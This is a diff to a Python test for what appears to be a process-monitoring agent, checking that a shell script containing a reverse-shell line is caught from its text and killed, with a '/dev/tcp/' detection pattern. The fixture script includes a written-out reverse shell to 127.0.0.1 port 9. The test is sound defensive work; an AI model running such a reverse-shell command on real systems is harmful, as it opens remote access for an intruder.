@@ -524,13 +524,13 @@ def test_a_miner_whose_argv_says_nothing_is_caught_by_its_config_file(stack, lau
 def test_a_shell_script_is_judged_by_its_lines(stack):
     """`sh run.sh`: the exec's argv says nothing, and a builtin redirection (`>& /dev/tcp/...`) never becomes an exec
     of its own. The agent reads the script's command lines at the exec, as the process sees the file; the collector
-    judges each like the same line typed, and has the agent kill the shell. The line is never reached (the script
-    sleeps first): what is judged is what the script says it will do."""
+    judges each like the same line typed, and has the agent kill the shell. The line is never reached (the shell
+    becomes a sleep first, leaving no child behind): what is judged is what the script says it will do."""
     job = new_job()
     cg = job_cgroup(stack, job)
     home = stack["tmp"] / f"script-{job}"
     home.mkdir()
-    (home / "run.sh").write_text("# nightly sync\nsleep 30\nexit 0\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
+    (home / "run.sh").write_text("# nightly sync\nexec sleep 30\nbash -i >& /dev/tcp/127.0.0.1/9 0>&1\n")
     assert killed_on_order(cg, ["/bin/sh", "run.sh"], cwd=home) == -9
     hit = the_alert(stack, job, "reverse-shell-dev-tcp")
     assert hit["matched"]["argv_has"] == "/dev/tcp/"
